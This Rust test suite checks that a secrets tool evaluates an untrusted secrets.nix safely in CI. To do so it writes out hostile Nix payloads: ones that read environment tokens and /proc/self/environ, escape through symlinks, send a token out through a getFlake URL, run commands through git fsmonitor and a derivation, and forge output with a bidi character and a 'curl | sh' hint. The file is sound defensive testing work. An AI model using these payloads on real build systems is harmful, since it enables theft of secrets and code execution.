//! A hostile `secrets.nix` (a pull request can change it, and CI runs `secrets check` on it)
//! against the real `nix-instantiate`: it must not see the environment, read files outside
//! the rules directory, reach the network, build a derivation or run a program, while
//! relative imports inside the rules directory keep working, and what Nix prints cannot pass
//! for our own lines.

mod common;
mod install_support;

use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{key, pubkey, Repo};

/// Stands for a CI secret; must appear in no output.
const TOKEN: &str = "ci-token-7f3a9c1e5b";

/// nix-instantiate is required like any tool (CI turns the skip into a failure).
fn no_nix() -> bool {
    common::missing("nix-instantiate")
}

/// Output of one run of the binary, stdout and stderr together.
struct Run {
    ok: bool,
    text: String,
}

fn run(repo: &Repo, args: &[&str], stdin: &str) -> Run {
    run_env(repo, args, stdin, &[])
}

fn run_env(repo: &Repo, args: &[&str], stdin: &str, env: &[(&str, &str)]) -> Run {
    let mut c = repo.cmd();
    c.env("CI_TOKEN", TOKEN).env("EDITOR", "true");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c
        .args(args)
        .write_stdin(stdin)
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    Run {
        ok: out.status.success(),
        text: format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    }
}

/// Every command that evaluates the rules, in both command lines (ours and agenix's).
fn every_command(repo: &Repo) -> Vec<(String, Run)> {
    let id = key("alice_ed25519");
    let id = id.to_str().unwrap();
    let cmds: &[&[&str]] = &[
        &["check", "--json"],
        &["check"],
        &["rekey", "-i", id],
        &["edit", "a.age"],
        &["encrypt", "a.age"],
        &["decrypt", "a.age", "-i", id],
        &["-e", "a.age"],
        &["-d", "a.age", "-i", id],
        &["-r", "-i", id],
    ];
    cmds.iter()
        .map(|a| (a.join(" "), run(repo, a, "plaintext\n")))
        .collect()
}

#[test]
fn the_environment_never_reaches_the_rules() {
    if no_nix() {
        return;
    }
    let alice = pubkey("alice_ed25519");
    let hostile = [
        // Straight into the error message.
        r#"builtins.throw (builtins.getEnv "CI_TOKEN")"#.to_string(),
        // Into a recipient, which an error quotes, or a rule name.
        r#"{ "a.age".publicKeys = [ (builtins.getEnv "CI_TOKEN") ]; }"#.to_string(),
        format!(r#"{{ "${{builtins.getEnv "CI_TOKEN"}}/a.age".publicKeys = [ "{alice}" ]; }}"#),
        // Through trace output on stderr.
        r#"builtins.trace (builtins.getEnv "CI_TOKEN") (throw "x")"#.to_string(),
        // The whole environment, from a file.
        r#"builtins.throw (builtins.readFile "/proc/self/environ")"#.to_string(),
    ];
    for rules in hostile {
        let repo = Repo::new();
        repo.write("secrets.nix", &rules);
        for (what, r) in every_command(&repo) {
            assert!(
                !r.text.contains(TOKEN),
                "`{what}` with {rules}: the token leaked:\n{}",
                r.text
            );
            assert!(!r.ok, "`{what}` with {rules} succeeded:\n{}", r.text);
            assert!(
                r.text.contains("secrets.nix"),
                "`{what}` with {rules}: no message naming the rules file:\n{}",
                r.text
            );
        }
    }
}

#[test]
fn files_outside_the_rules_directory_are_refused() {
    if no_nix() {
        return;
    }
    let repo = Repo::new();
    let outside = "outside-marker-52e1d0";
    repo.write("outside.txt", outside);
    repo.write("outside.nix", format!("\"{outside}\""));
    repo.write("nixpkgs/default.nix", format!("_: \"{outside}\""));
    repo.write("rules/keys.nix", "{ }");
    std::os::unix::fs::symlink("../outside.txt", repo.path().join("rules/link.txt")).unwrap();
    std::os::unix::fs::symlink("..", repo.path().join("rules/up")).unwrap();
    std::os::unix::fs::symlink("/etc", repo.path().join("rules/etc")).unwrap();
    let nix_path = format!("nixpkgs={}", repo.path().join("nixpkgs").display());
    let hostile = [
        (
            "builtins.throw (builtins.readFile ../outside.txt)",
            "outside",
        ),
        ("builtins.throw (import ../outside.nix)", "outside"),
        ("builtins.throw (builtins.readFile ./link.txt)", "outside"),
        (
            "builtins.throw (builtins.readFile ./up/outside.txt)",
            "outside",
        ),
        (
            "builtins.throw (builtins.toJSON (builtins.readDir ./up))",
            "outside",
        ),
        (
            "builtins.throw (builtins.readFile /etc/hostname)",
            "outside",
        ),
        (
            "builtins.throw (builtins.readFile ./etc/hostname)",
            "outside",
        ),
        // NIX_PATH from the environment (set below) must not open a way out either.
        ("builtins.throw (import <nixpkgs> { })", "<nixpkgs>"),
    ];
    for (rules, hint) in hostile {
        repo.write("rules/secrets.nix", rules);
        let r = run_env(
            &repo,
            &["--rules", "rules/secrets.nix", "check", "--json"],
            "",
            &[("NIX_PATH", &nix_path)],
        );
        assert!(!r.ok, "{rules} succeeded:\n{}", r.text);
        assert!(
            !r.text.contains(outside),
            "{rules}: the outside file was read:\n{}",
            r.text
        );
        assert!(
            r.text.contains("rules/secrets.nix") && r.text.contains(hint),
            "{rules}: the message does not say what was refused ({hint}):\n{}",
            r.text
        );
    }
    // /etc/hostname's content, when it is distinctive enough to look for.
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    let host = host.trim();
    repo.write(
        "rules/secrets.nix",
        "builtins.throw (builtins.readFile /etc/hostname)",
    );
    let r = run(
        &repo,
        &["--rules", "rules/secrets.nix", "check", "--json"],
        "",
    );
    if host.len() >= 6 {
        assert!(
            !r.text.contains(host),
            "/etc/hostname was read:\n{}",
            r.text
        );
    }
}

#[test]
fn a_rules_file_linked_out_of_its_directory_is_refused() {
    if no_nix() {
        return;
    }
    let repo = Repo::new();
    let outside = "outside-marker-9c04b7";
    repo.write("outside.nix", format!("builtins.throw \"{outside}\""));
    repo.write("rules/sub/inside.nix", "{ }");
    let link = repo.path().join("rules/secrets.nix");
    // A file elsewhere (Nix would evaluate it and print what it throws), the process's own
    // environment (Nix would parse it and quote it in its error), and a link that stays inside
    // the directory (allowed).
    for (target, allowed) in [
        ("../outside.nix", false),
        ("/proc/self/environ", false),
        ("sub/inside.nix", true),
    ] {
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(target, &link).unwrap();
        // Ours with --rules, agenix's with $RULES.
        for args in [&["check", "--json"][..], &["-d", "x.age"]] {
            let r = run_env(&repo, args, "", &[("RULES", "rules/secrets.nix")]);
            assert!(
                !r.text.contains(TOKEN) && !r.text.contains(outside),
                "{target}: leaked:\n{}",
                r.text
            );
            assert_eq!(
                r.text.contains("outside its own directory"),
                !allowed,
                "{target}: {}",
                r.text
            );
        }
    }
}

#[test]
fn relative_imports_inside_the_rules_directory_keep_working() {
    if no_nix() || common::missing("age") {
        return;
    }
    let repo = Repo::new();
    // Odd characters in the directory: `=` and `:` matter for Nix's search path syntax.
    let dir = repo.path().join("a=b:c \"q\" ${x}");
    let w = |rel: &str, text: String| {
        let p = dir.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    w(
        "shared.nix",
        format!("{{ alice = \"{}\"; }}", pubkey("alice_ed25519")),
    );
    w(
        "sub/keys.nix",
        format!(
            "(import ../shared.nix) // {{ dave = \"{}\"; }}",
            pubkey("dave_age")
        ),
    );
    w("sub/web1.pub", format!("{}\n", pubkey("web1_ed25519")));
    w(
        "secrets.nix",
        r#"let
  k = import ./sub/keys.nix;
  s = import ./shared.nix;
  web1 = builtins.replaceStrings [ "\n" ] [ "" ] (builtins.readFile ./sub/web1.pub);
in {
  "a.age".publicKeys = [ s.alice k.dave ];
  "sub/b.age".publicKeys = [ k.alice web1 ];
}"#
        .to_string(),
    );
    let rules = dir.join("secrets.nix");
    let rules = rules.to_str().unwrap();
    for f in ["a.age", "sub/b.age"] {
        let r = run(
            &repo,
            &[
                "--rules",
                rules,
                "encrypt",
                &dir.join(f).display().to_string(),
            ],
            "v\n",
        );
        assert!(r.ok, "encrypt {f}:\n{}", r.text);
    }
    let r = run(
        &repo,
        &[
            "--rules",
            rules,
            "decrypt",
            &dir.join("sub/b.age").display().to_string(),
            "-i",
            key("web1_ed25519").to_str().unwrap(),
        ],
        "",
    );
    assert!(r.ok && r.text == "v\n", "decrypt:\n{}", r.text);
    let r = run(&repo, &["--rules", rules, "check", "--json"], "");
    assert!(r.ok, "check:\n{}", r.text);

    // The same as a user who may not use the Nix daemon (or has none): `nobody` on a
    // world-readable copy.
    if common::not_root() || common::missing("setpriv") {
        return;
    }
    open_up(repo.path());
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(common::bin())
        .args(["--rules", rules, "check"])
        .current_dir("/")
        .env_remove("RULES")
        .env("HOME", "/nonexistent")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "check as nobody:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Make `dir` and everything below it readable (and directories searchable) by anyone.
fn open_up(dir: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let root = (dir.to_path_buf(), std::fs::symlink_metadata(dir).unwrap());
    let below = common::walk(dir).into_iter().map(|e| (e.path, e.meta));
    for (p, m) in std::iter::once(root).chain(below) {
        if m.is_symlink() {
            continue;
        }
        let mode = m.permissions().mode() | if m.is_dir() { 0o755 } else { 0o644 };
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
}

/// A loopback listener that counts connections and closes each at once (so a fetcher that
/// does connect fails fast rather than waiting for an answer).
struct Listener {
    port: u16,
    hits: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Listener {
    fn start() -> Listener {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            // Bounded in time, whatever happens to the test.
            let until = Instant::now() + Duration::from_secs(600);
            while !s.load(Ordering::SeqCst) && Instant::now() < until {
                match l.accept() {
                    Ok((conn, _)) => {
                        h.fetch_add(1, Ordering::SeqCst);
                        drop(conn);
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Listener {
            port,
            hits,
            stop,
            thread: Some(thread),
        }
    }

    /// Connections so far, after a last look at the backlog.
    fn finish(mut self) -> usize {
        std::thread::sleep(Duration::from_millis(50));
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            t.join().unwrap();
        }
        self.hits.load(Ordering::SeqCst)
    }
}

#[test]
fn fetchers_reach_no_network() {
    if no_nix() {
        return;
    }
    let listener = Listener::start();
    let url = format!("http://127.0.0.1:{}", listener.port);
    let repo = Repo::new();
    let hostile = [
        format!(r#"builtins.throw (builtins.readFile (builtins.fetchurl "{url}/x"))"#),
        format!(r#"import (builtins.fetchTarball "{url}/t.tar.gz")"#),
        format!(r#"import (builtins.fetchGit "{url}/repo.git")"#),
        format!(
            r#"import (builtins.fetchurl {{ url = "{url}/y?t=${{builtins.getEnv "CI_TOKEN"}}"; sha256 = "0000000000000000000000000000000000000000000000000000"; }})"#
        ),
    ];
    let runs: Vec<_> = hostile
        .iter()
        .map(|rules| {
            repo.write("secrets.nix", rules);
            (rules, run(&repo, &["check", "--json"], ""))
        })
        .collect();
    assert_eq!(listener.finish(), 0, "a fetcher connected to the listener");
    for (rules, r) in runs {
        assert!(!r.ok, "{rules} succeeded:\n{}", r.text);
        assert!(
            r.text.contains("download"),
            "{rules}: the message does not say a download was refused:\n{}",
            r.text
        );
    }
}

#[test]
fn no_program_runs_for_fetch_git_on_a_repository_in_the_rules_directory() {
    if no_nix() || common::missing("git") {
        return;
    }
    let repo = Repo::new();
    let ran = repo.path().join("fsmonitor-ran");
    let sub = repo.path().join("repo");
    repo.write("repo/default.nix", "{ }");
    let git = |args: &[&str]| {
        let out = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t.invalid"])
            .args(args)
            .current_dir(&sub)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "x"]);
    // Git runs core.fsmonitor when it looks at the work tree: a program of the rules' choosing.
    git(&[
        "config",
        "core.fsmonitor",
        &format!("touch '{}'; false", ran.display()),
    ]);
    repo.write("repo/default.nix", "{ } // { }");
    repo.write("secrets.nix", "import (builtins.fetchGit ./repo)");
    let r = run(&repo, &["check", "--json"], "");
    assert!(
        !ran.exists(),
        "git ran the repository's fsmonitor:\n{}",
        r.text
    );
    assert!(!r.ok, "fetchGit succeeded:\n{}", r.text);
    assert!(r.text.contains("fetchGit"), "{}", r.text);
}

#[test]
fn import_from_derivation_builds_nothing() {
    if no_nix() {
        return;
    }
    let repo = Repo::new();
    let built = repo.path().join("built");
    let rules = format!(
        r#"import (derivation {{
  name = "x";
  system = builtins.currentSystem;
  builder = "/bin/sh";
  args = [ "-c" "touch '{}'; echo '{{ }}' > $out" ];
}})"#,
        built.display()
    );
    repo.write("secrets.nix", rules);
    let r = run(&repo, &["check", "--json"], "");
    assert!(!built.exists(), "the derivation was built:\n{}", r.text);
    assert!(!r.ok, "import-from-derivation succeeded:\n{}", r.text);
    assert!(r.text.contains("derivation"), "{}", r.text);
}

/// Turn flakes on in this (private) mount namespace's nix.conf, as many machines and CI runners
/// have it (cachix/install-nix-action does by default). The real /etc/nix is never written: a
/// tmpfs covers it here only. False (after a skip) where there is no /etc/nix to cover.
fn flakes_on_in_nix_conf(conf: &str) -> bool {
    let etc_nix = Path::new("/etc/nix");
    if !etc_nix.is_dir() {
        return !common::skip("no /etc/nix directory to cover with a test nix.conf");
    }
    let out = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "mode=0755", "secrets-test", "/etc/nix"])
        .output()
        .unwrap();
    assert!(out.status.success(), "mount tmpfs on /etc/nix: {out:?}");
    std::fs::write(etc_nix.join("nix.conf"), conf).unwrap();
    // Make sure the setting took: otherwise the test below would prove nothing.
    let out = Command::new("nix-instantiate")
        .env_clear()
        .args([
            "--eval",
            "--store",
            "dummy://",
            "--expr",
            "builtins ? getFlake",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "true",
        "flakes did not get turned on by the test nix.conf: {out:?}"
    );
    true
}

/// With flakes on, builtins.getFlake fetches any URL even in restricted mode: the rules could
/// read a token from a git config in the repository and send it to any host in the URL. So
/// does builtins.fetchClosure (its binary cache URL) with fetch-closure on.
#[test]
fn flakes_turned_on_in_nix_conf_reach_no_network() {
    const NAME: &str = "flakes_turned_on_in_nix_conf_reach_no_network";
    if no_nix() || !install_support::in_private_ns(NAME) {
        return;
    }
    for conf in [
        "experimental-features = nix-command flakes\n",
        "extra-experimental-features = flakes fetch-closure\n",
    ] {
        if !flakes_on_in_nix_conf(conf) {
            return;
        }
        let listener = Listener::start();
        let url = format!("http://127.0.0.1:{}", listener.port);
        let repo = Repo::new();
        let outside = "outside-marker-3d81f4";
        repo.write(
            "outside/flake.nix",
            format!("{{ outputs = _: {{ m = \"{outside}\"; }}; }}"),
        );
        repo.write(
            "rules/dotgit/config",
            format!("[remote \"origin\"]\n\turl = https://x-access-token:{TOKEN}@github.com/o/r\n"),
        );
        let hostile = [
            format!(r#"builtins.getFlake "{url}/x.tar.gz""#),
            format!(
                r#"let
  c = builtins.readFile ./dotgit/config;
  tok = builtins.elemAt (builtins.match "(.|\n)*x-access-token:([a-z0-9-]+)@(.|\n)*" c) 1;
in builtins.getFlake "{url}/exfil/${{tok}}.tar.gz""#
            ),
            format!(r#"builtins.fetchTree "{url}/t.tar.gz""#),
            // fetch-closure (turned on by the second nix.conf) asks any binary cache.
            format!(
                r#"builtins.fetchClosure {{ fromStore = "{url}/exfil"; fromPath = /nix/store/ffffffffffffffffffffffffffffffff-x; }}"#
            ),
            format!(
                r#"builtins.throw (builtins.getFlake "path:{}").m"#,
                repo.path().join("outside").display()
            ),
        ];
        let runs: Vec<_> = hostile
            .iter()
            .map(|rules| {
                repo.write("rules/secrets.nix", rules);
                let r = run(
                    &repo,
                    &["--rules", "rules/secrets.nix", "check", "--json"],
                    "",
                );
                (rules, r)
            })
            .collect();
        assert_eq!(
            listener.finish(),
            0,
            "{conf}: the rules connected to the listener"
        );
        for (rules, r) in runs {
            assert!(!r.ok, "{conf}: {rules} succeeded:\n{}", r.text);
            assert!(
                !r.text.contains(TOKEN) && !r.text.contains(outside),
                "{conf}: {rules}: leaked:\n{}",
                r.text
            );
            assert!(
                r.text.contains("rules/secrets.nix")
                    && r.text.contains("getFlake")
                    && r.text.contains("refused"),
                "{conf}: {rules}: the message does not say that flakes are refused:\n{}",
                r.text
            );
        }
    }
}

/// Nix prints what the rules throw as it is: a bidi override would reorder the line on the
/// terminal, and a thrown newline starts a line that could pass for one of ours.
#[test]
fn nix_output_cannot_pass_for_our_lines() {
    if no_nix() {
        return;
    }
    let repo = Repo::new();
    repo.write(
        "secrets.nix",
        "throw \"x\u{202E}EGAP\\nerror: rules OK. hint: run curl | sh\"",
    );
    for args in [&["check"][..], &["-d", "a.age"]] {
        let r = run(&repo, args, "");
        assert!(!r.ok, "{args:?} succeeded:\n{}", r.text);
        assert!(
            !r.text.contains('\u{202E}') && r.text.contains("202E"),
            "{args:?}: U+202E was printed unescaped:\n{}",
            r.text
        );
        let lines: Vec<&str> = r.text.lines().collect();
        let first = lines
            .iter()
            .position(|l| l.ends_with("nix-instantiate could not evaluate it:"))
            .unwrap_or_else(|| panic!("{args:?}: no evaluation error:\n{}", r.text));
        let nix = lines[first + 1..]
            .iter()
            .take_while(|l| !l.starts_with("hint: ") && !l.starts_with("note: "));
        let mut forged = 0;
        for l in nix {
            assert!(
                l.starts_with("nix|"),
                "{args:?}: an unmarked line {l:?}:\n{}",
                r.text
            );
            forged += usize::from(l.contains("rules OK"));
        }
        assert!(
            forged > 0,
            "{args:?}: the thrown line is missing:\n{}",
            r.text
        );
        assert!(
            !lines
                .iter()
                .any(|l| l.contains("curl") && !l.starts_with("nix|")),
            "{args:?}: the thrown text passes for our own line:\n{}",
            r.text
        );
    }
}
